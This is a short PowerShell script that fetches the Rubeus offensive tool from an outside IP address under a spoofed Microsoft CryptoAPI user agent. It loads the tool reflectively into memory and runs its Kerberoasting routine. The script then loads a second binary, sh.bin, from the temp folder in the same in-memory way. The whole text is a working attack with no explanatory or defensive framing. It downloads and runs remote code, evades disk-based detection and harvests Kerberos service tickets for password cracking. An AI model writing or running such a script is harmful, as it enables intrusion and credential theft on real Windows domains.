$ua = 'Microsoft-CryptoAPI/10.0'
$client = [System.Net.WebClient]::new()
$client.Headers['User-Agent'] = $ua

$loaded = [AppDomain]::CurrentDomain.Load($client.DownloadData('https://198.51.100.30/static/Rubeus.dll'))
$loaded.EntryPoint.Invoke($null, @(, [string[]]@('kerberoast', '/nowrap')))

# a second tool, this time from disk
$local = [IO.File]::ReadAllBytes("$env:TEMP\sh.bin")
[Reflection.Assembly]::Load($local) | Out-Null
